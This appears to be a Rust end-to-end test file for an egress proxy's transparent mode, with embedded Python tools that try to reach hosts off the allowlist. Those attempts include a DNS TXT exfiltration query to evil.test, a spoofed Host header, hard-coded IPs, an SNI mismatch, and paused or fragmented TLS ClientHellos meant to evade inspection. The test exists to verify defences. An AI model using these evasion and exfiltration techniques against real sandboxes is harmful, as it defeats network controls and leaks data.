//! Transparent egress end to end (`network = "transparent"`): the real
//! `egress-proxy` binary and an executor in this process; a Python tool
//! whose clients use no proxy at all (proxy variables removed, urllib with
//! no proxy handler, raw sockets, `curl --noproxy '*'`, Node's global
//! `fetch`) reaches allowed names over plain HTTP, TLS (a spliced tunnel)
//! and raw TCP, and nothing else: unlisted names are NXDOMAIN with a fact of
//! kind `dns` and never reach the upstream DNS, a TXT exfiltration query
//! likewise, a hard-coded IP is `ip_literal`, a TLS server name that is not
//! the name is `host_mismatch`, UDP to another port fails and is counted;
//! a nameserver named by an IPv6 address answers too; a `network = "proxy"`
//! tool is unchanged (no name resolves, no direct connect). Strict where the host has every layer, else best_effort.
//! Needs root (namespaces, nftables); skipped loudly otherwise.
//! Loopback only: the origins are on 127.0.0.2, the proxy's upstream DNS is
//! a fake on loopback, every address the children use lives in their own
//! namespaces.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use egress_e2e::executor::*;
use egress_e2e::harness::TOKEN;
use egress_e2e::postgres::Postgres;
use egress_e2e::stack::{proxy_bin, start_stack, start_stack_with, Stack};
use egress_e2e::FakeDns;
use egress_executor::InvocationRequest;
use serde_json::{json, Value};

/// Why this host cannot run these tests, if it cannot.
fn unable() -> Option<String> {
    if proxy_bin().is_none() {
        return Some("egress-proxy binary not built (run `cargo build -p egress-proxy` first)".into());
    }
    if !is_root() {
        return Some("needs root (network namespaces, nftables)".into());
    }
    if let Err(e) = egress_executor::confine::transparent::nft() {
        return Some(e);
    }
    if python().is_none() {
        return Some("no python3".into());
    }
    None
}

/// The tool: every client below ignores the proxy (the variables are
/// removed first), so each connection it makes goes where the namespace
/// sends it.
const TOOL_PY: &str = r#"
import json, os, socket, ssl, struct, subprocess, urllib.request, urllib.error

for k in list(os.environ):
    if k.lower().endswith("_proxy") or k == "NODE_USE_ENV_PROXY":
        del os.environ[k]

WEB, TLS, DB = int(os.environ["WEB"]), int(os.environ["TLS"]), int(os.environ["DB"])
CA = os.environ["ORIGIN_CA"]

def attempt(f):
    try:
        return f()
    except Exception as e:
        return {"error": type(e).__name__, "errno": getattr(e, "errno", None), "text": str(e)[:200]}

def nameserver():
    try:
        for line in open("/etc/resolv.conf"):
            parts = line.split()
            if len(parts) >= 2 and parts[0] == "nameserver" and ":" not in parts[1]:
                return parts[1]
    except OSError:
        pass
    return "127.0.0.1"

def dns_rcode(name, qtype, server=None):
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    q += b"\0" + struct.pack("!HH", qtype, 1)
    server = server or nameserver()
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, (server, 53))
    r = s.recv(512)
    return {"rcode": r[3] & 0xF, "answers": struct.unpack("!H", r[6:8])[0]}

def urllib_get(url):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(url, timeout=10) as r:
            return {"status": r.status, "body": r.read().decode()}
    except urllib.error.HTTPError as e:
        denial = json.loads(e.headers.get("X-Egress-Denial") or "null")
        return {"status": e.code, "reason": e.headers.get("X-Egress-Deny-Reason"), "denial": denial}

def echo():
    with socket.create_connection(("db.test", DB), timeout=10) as s:
        s.sendall(b"\x00raw bytes\n")
        return s.recv(100).decode()

def http_to_another_host():
    # The rule web.test:WEB used to speak HTTP to another Host.
    with socket.create_connection(("web.test", WEB), timeout=10) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
        head = s.recv(4096).decode(errors="replace").split("\r\n")
        reason = [l.split(":", 1)[1].strip() for l in head if l.lower().startswith("x-egress-deny-reason:")]
        return {"status": head[0], "reason": reason[0] if reason else None}

def tls(server_name):
    ctx = ssl.create_default_context(cafile=CA)
    if server_name != "tls.test":
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    with socket.create_connection(("tls.test", TLS), timeout=10) as raw:
        with ctx.wrap_socket(raw, server_hostname=server_name) as t:
            t.sendall(b"GET / HTTP/1.1\r\nHost: tls.test\r\nConnection: close\r\n\r\n")
            data = b""
            while True:
                chunk = t.recv(4096)
                if not chunk:
                    break
                data += chunk
            return {"status": data.split(b"\r\n", 1)[0].decode(), "body": data.split(b"\r\n\r\n", 1)[-1].decode()}

def ip_literal_http():
    with socket.create_connection(("192.0.2.1", 80), timeout=10) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nConnection: close\r\n\r\n")
        return s.recv(4096).decode(errors="replace").split("\r\n")[0]

def ip6_literal_http():
    with socket.create_connection(("2001:db8::1", 80), timeout=10) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: [2001:db8::1]\r\nConnection: close\r\n\r\n")
        return s.recv(4096).decode(errors="replace").split("\r\n")[0]

def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"hello", ("192.0.2.1", 9999))
    return "sent"

def curl():
    p = subprocess.run(["curl", "--noproxy", "*", "-s", "-m", "10", f"http://web.test:{WEB}/"],
                       capture_output=True, timeout=20)
    return {"code": p.returncode, "out": p.stdout.decode()}

def node():
    js = f"fetch('http://web.test:{WEB}/').then(r => r.text()).then(t => console.log(t)).catch(e => {{ console.log('ERR ' + e.cause); }})"
    p = subprocess.run(["node", "-e", js], capture_output=True, timeout=20)
    return {"code": p.returncode, "out": p.stdout.decode().strip(), "err": p.stderr.decode()[-300:]}

def run(input, ctx):
    return {
        "resolve_web": attempt(lambda: socket.gethostbyname("web.test")),
        "resolve_evil": attempt(lambda: socket.gethostbyname("evil.test")),
        "txt_exfil": attempt(lambda: dns_rcode("c2VjcmV0.exfil.evil.test", 16)),
        "resolve_at_v6_server": attempt(lambda: dns_rcode("web.test", 1, "2001:db8::53")),
        "http": attempt(lambda: urllib_get(f"http://web.test:{WEB}/")),
        "http_unlisted_port": attempt(lambda: urllib_get(f"http://web.test:{DB}/")),
        "raw": attempt(echo),
        "http_to_another_host": attempt(http_to_another_host),
        "tls": attempt(lambda: tls("tls.test")),
        "sni_mismatch": attempt(lambda: tls("other.test")),
        "ip_literal": attempt(ip_literal_http),
        "ip6_literal": attempt(ip6_literal_http),
        "udp": attempt(udp),
        "curl": attempt(curl) if input.get("curl") else None,
        "node": attempt(node) if input.get("node") else None,
    }
"#;

/// A `network = "proxy"` tool in the same stack: nothing outside the proxy.
const PROXY_TOOL_PY: &str = r#"
import os, socket

def attempt(f):
    try:
        return f()
    except Exception as e:
        return {"error": type(e).__name__, "errno": getattr(e, "errno", None)}

def run(input, ctx):
    return {
        "resolve": attempt(lambda: socket.gethostbyname("web.test")),
        "connect": attempt(lambda: socket.create_connection(("192.0.2.1", 80), timeout=5) and "connected"),
        "connect_synthetic": attempt(lambda: socket.create_connection(("198.18.0.1", int(os.environ["WEB"])), timeout=5) and "connected"),
    }
"#;

#[tokio::test]
async fn unmodified_clients_reach_allowed_names_and_nothing_else() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED unmodified_clients_reach_allowed_names_and_nothing_else: {why}");
        return;
    }
    // nft is there, so the kernel must take the rules (a failure here is
    // the setup's, not the host's, unless the kernel lacks nf_tables).
    if let Err(e) = egress_executor::confine::transparent::support() {
        panic!("transparent egress cannot be set up on this host: {e}");
    }
    let web = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let (db, db_connections) = egress_e2e::origin::echo_origin("127.0.0.2:0").await;
    let tls = egress_e2e::tls_origin::tls_origin("127.0.0.2:0", &["tls.test"]).await;
    let dns = FakeDns::start().await;
    for name in ["web.test", "db.test", "tls.test"] {
        dns.set(name, &["127.0.0.2"]);
    }
    dns.set("evil.test", &["127.0.0.2"]);
    let dir = TempDir::new("transparent");
    let ca = tls.write_ca(dir.path());
    dir.write("tool.py", TOOL_PY);
    dir.write("proxy_tool.py", PROXY_TOOL_PY);
    let runner = python_runner();
    let env = format!(
        "env = {{ WEB = \"{}\", TLS = \"{}\", DB = \"{}\", ORIGIN_CA = \"{}\" }}",
        web.addr.port(),
        tls.addr.port(),
        db.port(),
        ca.display()
    );
    let isolation = strongest_isolation();
    let tools = format!(
        r#"
[tools.tp]
network = "transparent"
egress = ["web.test:{web}", "tls.test:{tls}", {{ host = "db.test", port = {db}, protocol = "tcp" }}]

[tools.tp.process]
command = ["python3", "{runner}", "tool.py"]
{env}
read_paths = ["{ca}"]
isolation = "{isolation}"
pool = {{ warm = 0, max = 2 }}
timeout_ms = 60000

[tools.plain]
egress = ["web.test:{web}"]

[tools.plain.process]
command = ["python3", "{runner}", "proxy_tool.py"]
{env}
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
timeout_ms = 30000
"#,
        web = web.addr.port(),
        tls = tls.addr.port(),
        db = db.port(),
        runner = runner.display(),
        ca = ca.display(),
    );
    let Stack { proxy, exec, .. } = start_stack(&proxy_bin().unwrap(), &dir, dns.addr, &tools);
    let input = json!({"curl": which("curl").is_some(), "node": node().is_some()});
    let res = exec.invoke(invocation("tp", input)).await;
    assert!(res.ok, "{res:#?}");
    let out: Value = res.output.clone().unwrap();
    eprintln!("{out:#}");

    // DNS: a listed name gets a synthetic address; an unlisted one is
    // NXDOMAIN (EAI_NONAME), as is a TXT query carrying data out.
    let synthetic = out["resolve_web"].as_str().unwrap_or_default();
    assert!(
        synthetic.starts_with("198.18.") || synthetic.starts_with("198.19."),
        "{out:#}"
    );
    assert_eq!(out["resolve_evil"]["error"], json!("gaierror"), "{out:#}");
    assert_eq!(out["txt_exfil"]["rcode"], json!(3), "{out:#}");
    // A nameserver named by an IPv6 address is answered the same.
    assert_eq!(
        out["resolve_at_v6_server"],
        json!({"rcode": 0, "answers": 1}),
        "{out:#}"
    );
    // Plain HTTP, raw TCP and TLS to listed names work; the listed name on
    // a port it is not listed for does not.
    assert_eq!(out["http"]["status"], json!(200), "{out:#}");
    assert_eq!(out["http"]["body"], json!("hello from origin"), "{out:#}");
    assert_eq!(out["http_unlisted_port"]["status"], json!(403), "{out:#}");
    assert_eq!(out["http_unlisted_port"]["reason"], json!("not_allowlisted"), "{out:#}");
    // The same denial for an agent: one line of JSON with the rule and a hint.
    let denial = &out["http_unlisted_port"]["denial"];
    assert_eq!(denial["reason"], json!("not_allowlisted"), "{out:#}");
    assert_eq!(denial["rule"], json!("allowlist"), "{out:#}");
    assert_eq!(denial["tool"], json!("tp"), "{out:#}");
    assert!(
        denial["hint"].as_str().is_some_and(|h| h.contains("do not retry")),
        "{out:#}"
    );
    assert_eq!(out["raw"], json!("\u{0}raw bytes\n"), "{out:#}");
    // HTTP to another host: refused (the first bytes are HTTP, so the Host
    // must name web.test), not relayed (the origin never sees evil.test).
    assert_eq!(out["http_to_another_host"]["reason"], json!("host_mismatch"), "{out:#}");
    assert!(
        !web.heads().iter().any(|h| h.contains("evil.test")),
        "{:?}",
        web.heads()
    );
    assert_eq!(db_connections.load(std::sync::atomic::Ordering::SeqCst), 1, "{out:#}");
    assert_eq!(out["tls"]["status"], json!("HTTP/1.1 200 OK"), "{out:#}");
    assert_eq!(out["tls"]["body"], json!("ok from the tls origin\n"), "{out:#}");
    // A TLS server name that is not the name: no tunnel.
    assert!(out["sni_mismatch"]["error"].is_string(), "{out:#}");
    // A hard-coded address: the connect lands at the proxy, which denies it.
    assert!(out["ip_literal"].as_str().is_some_and(|l| l.contains("403")), "{out:#}");
    // The same over IPv6 (the [::1]:3127 listener).
    assert!(
        out["ip6_literal"].as_str().is_some_and(|l| l.contains("403")),
        "{out:#}"
    );
    // UDP anywhere but DNS: dropped in the namespace (EPERM), and counted
    // once the child is gone.
    assert_eq!(out["udp"]["errno"], json!(1), "{out:#}");
    let dropped = async {
        loop {
            let m = exec.metrics().encode();
            let line = m
                .lines()
                .find(|l| l.starts_with("executor_transparent_udp_dropped_total{tool=\"tp\"}"))
                .map(str::to_string);
            if line.as_deref().is_some_and(|l| !l.ends_with(" 0")) {
                return line;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    let dropped = tokio::time::timeout(Duration::from_secs(10), dropped).await;
    assert_eq!(
        dropped.ok().flatten().as_deref(),
        Some("executor_transparent_udp_dropped_total{tool=\"tp\"} 1"),
        "{}",
        exec.metrics().encode()
    );
    if which("curl").is_some() {
        assert_eq!(out["curl"]["out"], json!("hello from origin"), "{out:#}");
    }
    if node().is_some() {
        assert_eq!(out["node"]["out"], json!("hello from origin"), "{out:#}");
    }

    // The facts of the run: each denial, labelled by its entrance.
    let facts: Vec<(String, String, String)> = res
        .facts
        .iter()
        .map(|f| {
            let t = f.target.as_ref();
            (
                f.reason.clone(),
                t.map(|t| t.kind.clone()).unwrap_or_default(),
                t.map(|t| t.host.clone()).unwrap_or_default(),
            )
        })
        .collect();
    let has = |reason: &str, kind: &str, host: &str| {
        facts
            .iter()
            .any(|(r, k, h)| r == reason && k == kind && h.contains(host))
    };
    assert!(has("not_allowlisted", "dns", "evil.test"), "{facts:#?}");
    assert!(has("not_allowlisted", "dns", "exfil.evil.test"), "{facts:#?}");
    assert!(has("ip_literal", "transparent", "192.0.2.1"), "{facts:#?}");
    assert!(has("ip_literal", "transparent", "2001:db8::1"), "{facts:#?}");
    assert!(has("host_mismatch", "transparent", "tls.test"), "{facts:#?}");
    // No query for a denied name ever left the proxy.
    let asked = dns.queries();
    assert!(!asked.iter().any(|q| q.contains("evil.test")), "{asked:?}");

    // A `network = "proxy"` tool: no name resolves, no connect leaves.
    let res = exec.invoke(invocation("plain", json!({}))).await;
    assert!(res.ok, "{res:#?}");
    let out = res.output.clone().unwrap();
    eprintln!("{out:#}");
    assert_eq!(out["resolve"]["error"], json!("gaierror"), "{out:#}");
    // Landlock's TCP rule (connect to the proxy port only) where the kernel
    // has it: EACCES; else the namespace's missing route.
    let landlock_tcp = egress_executor::confine::host(&Default::default()).landlock_abi >= 4;
    for what in ["connect", "connect_synthetic"] {
        if landlock_tcp {
            assert_eq!(out[what]["errno"], json!(13), "{what}: {out:#}");
        } else {
            assert!(out[what]["error"].is_string(), "{what}: {out:#}");
        }
    }
    exec.shutdown();
    exec.drain(Duration::from_secs(5)).await;
    drop(proxy);
}

/// An ad-hoc command reaches a listed name with no proxy variables.
const AD_HOC_PY: &str = r#"
import os, urllib.request
for k in list(os.environ):
    if k.lower().endswith("_proxy"):
        del os.environ[k]
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
with opener.open(f"http://web.test:{os.environ['WEB']}/", timeout=10) as r:
    print(r.status, r.read().decode())
"#;

/// `egress-executor run --tool T -- CMD` gives the command its tool's
/// network: under `network = "transparent"` a client that ignores the proxy
/// variables resolves a listed name and reaches it (it used to run on the
/// proxy network, where the name does not resolve). A setting an ad-hoc
/// command cannot have (`fork_server`) is named on the status line.
#[tokio::test]
async fn run_gives_an_ad_hoc_command_its_tools_transparent_network() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED run_gives_an_ad_hoc_command_its_tools_transparent_network: {why}");
        return;
    }
    let web = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let dns = FakeDns::start().await;
    dns.set("web.test", &["127.0.0.2"]);
    let dir = TempDir::new("transparent-run");
    let runner = python_runner();
    dir.write("tool.py", "def run(input, ctx):\n    return None\n");
    let isolation = strongest_isolation();
    let tools = format!(
        r#"
[tools.db]
network = "transparent"
egress = ["web.test:{web}"]

[tools.db.process]
command = ["python3", "{runner}", "tool.py"]
protocol = "loom"
fork_server = true
env = {{ WEB = "{web}" }}
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
"#,
        web = web.addr.port(),
        runner = runner.display(),
    );
    let Stack { proxy, exec, .. } = start_stack(&proxy_bin().unwrap(), &dir, dns.addr, &tools);
    exec.shutdown();
    let out = tokio::task::spawn_blocking({
        let dir = dir.path().to_path_buf();
        move || {
            Command::new(env!("CARGO_BIN_EXE_egress-executor"))
                .args(["run", "--config"])
                .arg(dir.join("egress.toml"))
                .args(["--tool", "db", "--", "python3", "-c", AD_HOC_PY])
                .current_dir(&dir)
                .env("EGRESS_CONTROL_TOKEN", TOKEN)
                .output()
                .unwrap()
        }
    })
    .await
    .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert_eq!(out.status.code(), Some(0), "stdout: {stdout}\nstderr: {stderr}");
    assert_eq!(stdout.trim(), "200 hello from origin", "stderr: {stderr}");
    let status = stderr.lines().find(|l| l.starts_with("run ")).unwrap_or_default();
    assert!(
        status.ends_with("[not applied to an ad-hoc command: fork_server = true]"),
        "{stderr}"
    );
    drop(proxy);
}

/// A tool that pauses: every client below ignores the proxy and sends its
/// first bytes the way an attacker would, to see whether a pause, a byte at
/// a time or a ClientHello cut into many records gets past the check of what
/// a transparent connection carries; the same slow clients naming the right
/// server must still work. `input` says nothing: each attempt is one entry
/// of the answer.
const PAUSE_PY: &str = r#"
import os, socket, ssl, time

for k in list(os.environ):
    if k.lower().endswith("_proxy"):
        del os.environ[k]

WEB, TLS, ECHO, BANNER = (int(os.environ[k]) for k in ("WEB", "TLS", "ECHO", "BANNER"))
CA = os.environ["ORIGIN_CA"]
PAUSE = 0.6  # longer than any wait a sniff might give up after

def attempt(f):
    try:
        return f()
    except Exception as e:
        return {"error": type(e).__name__, "text": str(e)[:200]}

def connect(name, port):
    s = socket.create_connection((name, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s

def send_paced(s, data, how, split):
    if how == "at_once":
        s.sendall(data)
    elif how == "paused":
        s.sendall(data[:split])
        time.sleep(PAUSE)
        s.sendall(data[split:])
    elif how == "bytewise":
        for i in range(len(data)):
            s.sendall(data[i:i + 1])
            time.sleep(0.001)

def read_all(s, limit=15):
    s.settimeout(limit)
    data = b""
    try:
        while True:
            c = s.recv(4096)
            if not c:
                return data, "eof"
            data += c
    except ConnectionResetError:
        return data, "reset"
    except socket.timeout:
        return data, "still open"

def http_answer(data):
    head = data.split(b"\r\n\r\n", 1)[0].decode(errors="replace").split("\r\n")
    reason = [l.split(":", 1)[1].strip() for l in head[1:] if l.lower().startswith("x-egress-deny-reason:")]
    return {"status": head[0], "reason": reason[0] if reason else None,
            "body": data.split(b"\r\n\r\n", 1)[-1].decode(errors="replace")}

def records(hello, n):
    # The same ClientHello, its handshake bytes cut into records of n bytes.
    msg = hello[5:]
    return b"".join(bytes([0x16, 3, 1]) + len(c).to_bytes(2, "big") + c
                    for c in (msg[i:i + n] for i in range(0, len(msg), n)))

def tls_get(server_name, how, split_records=None):
    # A TLS client whose ClientHello is sent `how`; then a GET inside.
    ctx = ssl.create_default_context(cafile=CA)
    if server_name != "tls.test":
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = ctx.wrap_bio(inc, out, server_hostname=server_name)
    with connect("tls.test", TLS) as s:
        try:
            t.do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello = out.read()
        if split_records:
            hello = records(hello, split_records)
        send_paced(s, hello, how, 5)
        while True:
            try:
                t.do_handshake()
                break
            except ssl.SSLWantReadError:
                pending = out.read()
                if pending:
                    s.sendall(pending)
                c = s.recv(16384)
                if not c:
                    return {"closed": "before the handshake"}
                inc.write(c)
        t.write(b"GET / HTTP/1.1\r\nHost: tls.test\r\nConnection: close\r\n\r\n")
        s.sendall(out.read())
        data = b""
        while True:
            try:
                d = t.read(4096)
                if not d:
                    break
                data += d
            except ssl.SSLWantReadError:
                pending = out.read()
                if pending:
                    s.sendall(pending)
                c = s.recv(16384)
                if not c:
                    break
                inc.write(c)
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                break
        return http_answer(data)

def http_get(host, how):
    req = f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
    with connect("web.test", WEB) as s:
        send_paced(s, req, how, 1)
        return http_answer(read_all(s)[0])

def sends(name, port, data):
    # Sends `data`, then reads until the other side is done.
    with connect(name, port) as s:
        if data:
            s.sendall(data)
        t0 = time.monotonic()
        got, how = read_all(s)
        return {"data": got.decode(errors="replace"), "how": how,
                "after_ms": int((time.monotonic() - t0) * 1000)}

def banner():
    # A server that speaks first, on an entry relayed raw: its banner comes
    # at once, and what is sent back is echoed.
    with connect("banner.test", BANNER) as s:
        t0 = time.monotonic()
        s.settimeout(10)
        first = s.recv(100)
        after = int((time.monotonic() - t0) * 1000)
        s.sendall(b"EHLO tool\r\n")
        return {"banner": first.decode(), "after_ms": after, "echo": s.recv(100).decode()}

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")

def echo_once(name, port, data):
    with connect(name, port) as s:
        s.sendall(data)
        s.settimeout(10)
        return s.recv(100).decode(errors="replace")

def run(input, ctx):
    if input.get("report"):
        return {"other": attempt(lambda: echo_once("echo.test", ECHO, b"\x00raw bytes\n"))}
    return {
        # TLS naming another server: its record header, a pause, the rest;
        # one byte at a time; its ClientHello cut into 40-byte records.
        "tls_paused_other": attempt(lambda: tls_get("paused.other.test", "paused")),
        "tls_bytewise_other": attempt(lambda: tls_get("bytewise.other.test", "bytewise")),
        "tls_records_other": attempt(lambda: tls_get("records.other.test", "at_once", 40)),
        # The same, naming the name: they work.
        "tls_paused": attempt(lambda: tls_get("tls.test", "paused")),
        "tls_bytewise": attempt(lambda: tls_get("tls.test", "bytewise")),
        "tls_records": attempt(lambda: tls_get("tls.test", "at_once", 40)),
        # `G`, a pause, `ET / HTTP/1.1` with another Host; and the same
        # naming web.test, paused and a byte at a time.
        "http_paused_other": attempt(lambda: http_get("evil.test", "paused")),
        "http_paused": attempt(lambda: http_get(f"web.test:{WEB}", "paused")),
        "http_bytewise": attempt(lambda: http_get(f"web.test:{WEB}", "bytewise")),
        # A client that sends nothing, to an entry without protocol = "tcp".
        "silent": attempt(lambda: sends("web.test", WEB, b"")),
        # Bytes that are neither TLS nor HTTP, and HTTP/2 with prior knowledge.
        "other": attempt(lambda: sends("echo.test", ECHO, b"\x00raw bytes\n")),
        "h2_prior": attempt(lambda: sends("web.test", WEB, H2_PREFACE)),
        "banner": attempt(banner),
    }
"#;

/// A transparent connection is decided on its whole first bytes, however
/// they come: a ClientHello whose record header comes first and the rest
/// after a pause, one byte at a time, or cut into many records, naming
/// another server, is `host_mismatch` (a fact) and never reaches the origin;
/// so is `G`, a pause, then `ET / HTTP/1.1` with `Host: evil.test`. The same
/// slow clients naming the name get through. A client that sends nothing is
/// denied after `header_read_timeout_ms` (`protocol_unknown`, a fact), as
/// are bytes that are neither TLS nor HTTP and HTTP/2 with prior knowledge,
/// none of them relayed; a server that speaks first works behind an entry
/// with `protocol = "tcp"`, at once. A tool in report mode has its
/// `protocol_unknown` recorded and relayed raw.
#[tokio::test]
async fn a_pause_never_gets_a_transparent_connection_past_its_check() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED a_pause_never_gets_a_transparent_connection_past_its_check: {why}");
        return;
    }
    if let Err(e) = egress_executor::confine::transparent::support() {
        panic!("transparent egress cannot be set up on this host: {e}");
    }
    let web = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let tls = egress_e2e::tls_origin::tls_origin("127.0.0.2:0", &["tls.test"]).await;
    let (echo, echo_connections) = egress_e2e::origin::echo_origin("127.0.0.2:0").await;
    let (banner, banner_connections) = egress_e2e::origin::banner_origin("127.0.0.2:0", b"220 banner ready\r\n").await;
    let dns = FakeDns::start().await;
    for name in ["web.test", "tls.test", "echo.test", "banner.test"] {
        dns.set(name, &["127.0.0.2"]);
    }
    let dir = TempDir::new("transparent-pause");
    let ca = tls.write_ca(dir.path());
    dir.write("pause.py", PAUSE_PY);
    let tools = format!(
        r#"
[tools.pause]
network = "transparent"
egress = ["web.test:{web}", "tls.test:{tls}", "echo.test:{echo}",
          {{ host = "banner.test", port = {banner}, protocol = "tcp" }}]

[tools.pause.process]
command = ["python3", "{runner}", "pause.py"]
env = {{ WEB = "{web}", TLS = "{tls}", ECHO = "{echo}", BANNER = "{banner}", ORIGIN_CA = "{ca}" }}
read_paths = ["{ca}"]
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
timeout_ms = 60000

[tools.reported]
network = "transparent"
mode = "report"
egress = ["echo.test:{echo}"]

[tools.reported.process]
command = ["python3", "{runner}", "pause.py"]
env = {{ WEB = "{web}", TLS = "{tls}", ECHO = "{echo}", BANNER = "{banner}", ORIGIN_CA = "{ca}" }}
read_paths = ["{ca}"]
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
timeout_ms = 60000
"#,
        web = web.addr.port(),
        tls = tls.addr.port(),
        echo = echo.port(),
        banner = banner.port(),
        runner = runners_dir().join("loom_runner.py").display(),
        ca = ca.display(),
        isolation = strongest_isolation(),
    );
    // The head read timeout: well above the pauses (0.6 s), short enough
    // for the silent client's wait.
    let Stack { proxy, exec, control } = start_stack_with(
        &proxy_bin().unwrap(),
        &dir,
        dns.addr,
        "header_read_timeout_ms = 3000",
        &tools,
        &[],
    );
    let res = exec
        .invoke(InvocationRequest {
            principal: None,
            tool: "pause".into(),
            input: json!({}),
            run_id: None,
            idempotency_key: None,
            timeout_ms: None,
        })
        .await;
    assert!(res.ok, "{res:#?}");
    let out: Value = res.output.clone().unwrap();
    eprintln!("{out:#}");

    // Naming another server, however the hello comes: no handshake, no
    // answer from the origin.
    for what in ["tls_paused_other", "tls_bytewise_other", "tls_records_other"] {
        assert!(out[what].get("status").is_none(), "{what}: {out:#}");
    }
    // Naming the name, the same ways: the origin answers.
    for what in ["tls_paused", "tls_bytewise", "tls_records"] {
        assert_eq!(out[what]["status"], json!("HTTP/1.1 200 OK"), "{what}: {out:#}");
        assert_eq!(out[what]["body"], json!("ok from the tls origin\n"), "{what}: {out:#}");
    }
    assert_eq!(
        tls.accepted(),
        3,
        "only the three handshakes naming tls.test reached it"
    );
    // `G`, a pause, the rest naming evil.test: host_mismatch, answered.
    assert_eq!(out["http_paused_other"]["reason"], json!("host_mismatch"), "{out:#}");
    assert!(
        out["http_paused_other"]["status"]
            .as_str()
            .is_some_and(|s| s.contains("400")),
        "{out:#}"
    );
    for what in ["http_paused", "http_bytewise"] {
        assert_eq!(out[what]["body"], json!("hello from origin"), "{what}: {out:#}");
    }
    assert!(
        !web.heads().iter().any(|h| h.contains("evil.test")),
        "{:?}",
        web.heads()
    );
    assert_eq!(web.heads().len(), 2, "{:?}", web.heads());
    // Silence to an entry that is not raw: closed after the head read
    // timeout (3 s, from the connect), nothing sent either way.
    let silent = &out["silent"];
    assert_eq!(silent["data"], json!(""), "{out:#}");
    assert!(
        silent["how"] == json!("eof") || silent["how"] == json!("reset"),
        "{out:#}"
    );
    let after = silent["after_ms"].as_u64().unwrap();
    assert!((2_500..10_000).contains(&after), "closed after {after} ms: {out:#}");
    // Neither TLS nor HTTP, HTTP/2 with prior knowledge: closed, never relayed.
    for what in ["other", "h2_prior"] {
        assert_eq!(out[what]["data"], json!(""), "{what}: {out:#}");
        assert!(
            out[what]["how"] == json!("eof") || out[what]["how"] == json!("reset"),
            "{what}: {out:#}"
        );
    }
    assert_eq!(echo_connections.load(std::sync::atomic::Ordering::SeqCst), 0);
    // A server that speaks first behind protocol = "tcp": its banner at
    // once (well before the head read timeout), then a relay both ways.
    assert_eq!(out["banner"]["banner"], json!("220 banner ready\r\n"), "{out:#}");
    assert_eq!(out["banner"]["echo"], json!("EHLO tool\r\n"), "{out:#}");
    assert!(out["banner"]["after_ms"].as_u64().unwrap() < 2_500, "{out:#}");
    assert_eq!(banner_connections.load(std::sync::atomic::Ordering::SeqCst), 1);

    // Each denial is a fact of kind transparent that says what happened.
    let fact = |reason: &str, host: &str, detail: &str| {
        res.facts.iter().any(|f| {
            f.reason == reason
                && f.detail.contains(detail)
                && f.target
                    .as_ref()
                    .is_some_and(|t| t.kind == "transparent" && t.host == host)
        })
    };
    for sni in ["paused.other.test", "bytewise.other.test", "records.other.test"] {
        assert!(fact("host_mismatch", "tls.test", sni), "{sni}: {:#?}", res.facts);
    }
    // (A request's refused target is quoted in the detail, the fact has none.)
    assert!(
        res.facts
            .iter()
            .any(|f| f.reason == "host_mismatch" && f.detail.contains("\"evil.test\"")),
        "{:#?}",
        res.facts
    );
    assert!(
        fact("protocol_unknown", "web.test", "sent nothing within 3000 ms"),
        "{:#?}",
        res.facts
    );
    assert!(
        fact("protocol_unknown", "echo.test", "(00 72 61 77 20 62 79 74)"),
        "{:#?}",
        res.facts
    );
    assert!(
        fact("protocol_unknown", "web.test", "prior knowledge"),
        "{:#?}",
        res.facts
    );
    assert!(!res
        .facts
        .iter()
        .any(|f| f.target.as_ref().is_some_and(|t| t.host == "banner.test")));
    // The metric moved with them.
    let r = egress_e2e::harness::control_call(control, "GET", "/metrics", None, Some(TOKEN)).await;
    let metrics = r.text();
    assert!(
        metrics.contains("egress_denials_total{tool=\"pause\",reason=\"protocol_unknown\"} 3"),
        "{}",
        metrics
            .lines()
            .filter(|l| l.contains("protocol_unknown"))
            .collect::<Vec<_>>()
            .join("\n")
    );

    // Report mode records protocol_unknown and relays raw, the bytes read
    // first.
    let reported = exec
        .invoke(InvocationRequest {
            principal: None,
            tool: "reported".into(),
            input: json!({"report": true}),
            run_id: None,
            idempotency_key: None,
            timeout_ms: None,
        })
        .await;
    assert!(reported.ok, "{reported:#?}");
    let out = reported.output.clone().unwrap();
    assert_eq!(out["other"], json!("\u{0}raw bytes\n"), "{out:#}");
    assert_eq!(echo_connections.load(std::sync::atomic::Ordering::SeqCst), 1);
    assert!(
        reported
            .facts
            .iter()
